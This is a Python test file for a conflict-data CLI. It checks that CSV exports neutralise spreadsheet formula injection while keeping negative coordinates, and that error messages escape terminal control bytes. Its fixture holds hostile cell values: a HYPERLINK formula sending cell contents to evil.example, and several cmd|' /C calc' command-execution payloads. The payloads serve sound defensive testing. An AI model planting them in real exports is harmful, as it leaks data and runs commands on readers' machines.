"""CSV exports are safe to open in a spreadsheet (OWASP formula injection) without changing numbers,
and error messages show control bytes escaped."""

from __future__ import annotations

import csv
import gzip
import io

import pyarrow as pa
import pytest

from peacewatch.cli import render
from peacewatch.cli.app import main
from peacewatch.textsafe import csv_cell, printable

ARGENTINA = "acled_global_sample_2022/acled_argentina_2022-06_326_events.csv.gz"
HOSTILE = {
    0: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    1: "+cmd|' /C calc'!A0",
    2: "-2+3+cmd|' /C calc'!A0",
    3: "@SUM(1+1)*cmd|' /C calc'!A0",
    4: "\t=1+1",
    5: "\r=1+1",
}


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory, data_file):
    """The real Argentina ACLED export (negative coordinates), six notes replaced by formulas."""
    from peacewatch.store import Store

    tmp = tmp_path_factory.mktemp("csvsafe")
    rows = list(csv.DictReader(io.StringIO(gzip.decompress(data_file(ARGENTINA).read_bytes()).decode())))
    for i, text in HOSTILE.items():
        rows[i]["notes"] = text
    src = tmp / "acled_argentina_hostile.csv"
    with src.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    store = Store(tmp / "s.duckdb")
    store.ingest([src])
    return store, {rows[i]["event_id_cnty"]: text for i, text in HOSTILE.items()}


def test_events_csv_neutralises_formulas_in_text_and_keeps_negative_coordinates(
    hostile_store, capsys, tmp_path
):
    store, hostile = hostile_store
    out = tmp_path / "events.csv"
    assert main(["events", "--store", str(store.path), "--format", "csv", "--out", str(out)]) == 0
    rows = list(csv.DictReader(out.open(newline="", encoding="utf-8")))
    assert len(rows) == 326
    by_id = {r["event_id"]: r for r in rows}
    for event_id, text in hostile.items():
        notes = next(r["notes"] for key, r in by_id.items() if key.endswith(event_id))
        assert notes == "'" + text
    for r in rows:
        for column, cell in r.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            if cell.startswith("-"):
                assert column in ("latitude", "longitude"), (column, cell)
                float(cell)  # a number, unchanged
    assert all(float(r["latitude"]) < 0 and float(r["longitude"]) < 0 for r in rows)


def test_csv_cells_keep_numbers_and_quote_only_text(tmp_path):
    table = pa.table({"n": [-3, 4], "x": [-1.5, 2.0], "label": ["-3", "Helmand"]})
    out = tmp_path / "t.csv"
    render.write_rows(table, "csv", out)
    assert out.read_text(encoding="utf-8").splitlines() == ["n,x,label", "-3,-1.5,'-3", "4,2.0,Helmand"]
    assert [csv_cell(v) for v in (-3, "Helmand", "a=b", "")] == [-3, "Helmand", "a=b", ""]


def test_events_csv_to_stdout_is_the_same_rule(hostile_store, capsys):
    store, hostile = hostile_store
    assert main(["events", "--store", str(store.path), "--format", "csv", "--limit", "400"]) == 0
    text = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert sum(r["notes"].startswith("'") for r in rows) == len(hostile)


def test_error_messages_escape_control_bytes(capsys, tmp_path):
    bad = tmp_path / "evil\x1b[2J\x07.csv"
    bad.write_bytes(b"a,b\n1,2\n")
    code = main(["ingest", "--store", str(tmp_path / "s.duckdb"), str(bad)])
    err = capsys.readouterr().err
    assert code == 1
    assert "\x1b" not in err and "\x07" not in err and "\\x1b[2J\\x07" in err


def test_printable_keeps_line_breaks_and_escapes_the_rest():
    assert printable("a\nb\tc\x00\u202ed") == "a\nb\\x09c\\x00\\u202ed"
